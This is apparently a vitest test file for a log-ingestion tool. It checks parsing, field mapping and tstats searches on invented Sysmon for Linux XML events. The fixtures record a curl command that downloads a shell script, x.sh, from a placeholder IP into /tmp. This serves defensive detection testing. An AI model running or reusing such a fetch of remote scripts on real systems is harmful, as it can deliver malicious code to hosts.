// Sysmon for Linux records (datasets.md §5.1: `<Event><System>`, double-quoted attributes, no
// xmlns, one per line): source/sourcetype as ESCU's data sources, Sysmon TA logic with `/` paths,
// Endpoint.Processes / Filesystem membership, syslog prefix, skips. Inputs are written here in
// the exact shape Sysmon for Linux emits (invented hosts, paths and ids).
import { describe, expect, it } from "vitest";
import { builtinMacros, runSearch } from "../../../src/index.js";
import { detectFormat } from "../../../src/adapters/index.js";
import { ingest, one } from "./fixtures.js";

function linuxXml(eid: number, task: number, data: ReadonlyArray<readonly [string, string]>): string {
  const items = data.map(([k, v]) => `<Data Name="${k}">${v}</Data>`).join("");
  return (
    `<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>${eid}</EventID>` +
    `<Version>5</Version><Level>4</Level><Task>${task}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>` +
    `<TimeCreated SystemTime="2024-03-05T08:01:02.123456000Z"/><EventRecordID>42017</EventRecordID><Correlation/>` +
    `<Execution ProcessID="811" ThreadID="811"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web-07</Computer>` +
    `<Security UserId="0"/></System><EventData>${items}</EventData></Event>`
  );
}

const EID1 = linuxXml(1, 1, [
  ["RuleName", "-"],
  ["UtcTime", "2024-03-05 08:01:02.130"],
  ["ProcessGuid", "{5a1c0d2e-1111-65e6-0a2b-3c4d5e6f0000}"],
  ["ProcessId", "4242"],
  ["Image", "/usr/bin/curl"],
  ["FileVersion", "-"],
  ["OriginalFileName", "-"],
  ["CommandLine", "curl -sO http://203.0.113.9/x.sh"],
  ["CurrentDirectory", "/tmp"],
  ["User", "deploy"],
  ["LogonId", "1001"],
  ["IntegrityLevel", "no level"],
  ["Hashes", "-"],
  ["ParentProcessGuid", "{5a1c0d2e-0000-65e6-9a8b-7c6d5e4f0000}"],
  ["ParentProcessId", "4100"],
  ["ParentImage", "/usr/bin/bash"],
  ["ParentCommandLine", "bash"],
  ["ParentUser", "deploy"],
]);
const EID11 = linuxXml(11, 11, [
  ["RuleName", "-"],
  ["UtcTime", "2024-03-05 08:01:03.000"],
  ["ProcessGuid", "{5a1c0d2e-1111-65e6-0a2b-3c4d5e6f0000}"],
  ["ProcessId", "4242"],
  ["Image", "/usr/bin/curl"],
  ["TargetFilename", "/tmp/x.sh"],
  ["CreationUtcTime", "2024-03-05 08:01:03.000"],
  ["User", "deploy"],
]);

describe("Sysmon for Linux", () => {
  it("is recognised by content and by the forced sourcetype", () => {
    expect(detectFormat(EID1)?.name).toBe("sysmon-linux");
    expect(detectFormat("x", { sourcetype: "sysmon:linux" })?.name).toBe("sysmon-linux");
  });

  it("EID 1 → Endpoint.Processes fields with Linux basenames", () => {
    const ev = one(`${EID1}\n`);
    expect(ev).toMatchObject({
      source: "Syslog:Linux-Sysmon/Operational",
      sourcetype: "sysmon:linux",
      host: "web-07",
      EventCode: "1",
      EventID: "1",
      signature: "Process creation",
      ProcessID: "811",
      UserId: "0",
      SystemTime: "2024-03-05T08:01:02.123456000Z",
      process: "curl -sO http://203.0.113.9/x.sh",
      process_name: "curl",
      process_exec: "curl",
      process_path: "/usr/bin/curl",
      process_id: "4242",
      parent_process: "bash",
      parent_process_name: "bash",
      parent_process_path: "/usr/bin/bash",
      parent_process_id: "4100",
      user: "deploy",
      dest: "web-07",
      action: "allowed",
      os: "Linux",
      vendor_product: "Microsoft Sysmon",
      tag: ["process", "report"],
    });
    expect(ev._time).toBe(Date.UTC(2024, 2, 5, 8, 1, 2, 130) / 1000);
    expect(ev.original_file_name).toBeUndefined();
    expect(ev.user_id).toBeUndefined();
  });

  it("EID 11 → Endpoint.Filesystem; the tstats of ESCU's Linux searches see both", () => {
    const { store, report } = ingest(`${EID1}\n${EID11}\n`);
    expect(report.byFormat).toEqual({ "sysmon-linux": 2 });
    const run = (q: string) => runSearch(q, store, { macros: builtinMacros() }).table?.rows();
    expect(run("| tstats count from datamodel=Endpoint.Processes where Processes.process_name=curl by Processes.user")).toEqual([
      { "Processes.user": "deploy", count: 1 },
    ]);
    expect(run("| tstats count from datamodel=Endpoint.Filesystem by Filesystem.file_name Filesystem.file_path Filesystem.action")).toEqual([
      { "Filesystem.file_name": "x.sh", "Filesystem.file_path": "/tmp/x.sh", "Filesystem.action": "created", count: 1 },
    ]);
  });

  it("keeps a syslog prefix in _raw and reports a broken line with its number", () => {
    const prefixed = `Mar  5 08:01:02 web-07 sysmon: ${EID1}`;
    const { rows, report } = ingest(`${prefixed}\n${EID1.slice(0, 200)}\n`);
    expect(rows).toHaveLength(1);
    expect(rows[0]!._raw).toBe(prefixed);
    expect(report.skipped).toEqual([{ file: "inline.txt", line: 2, reason: "record has no closing </Event>" }]);
  });
});
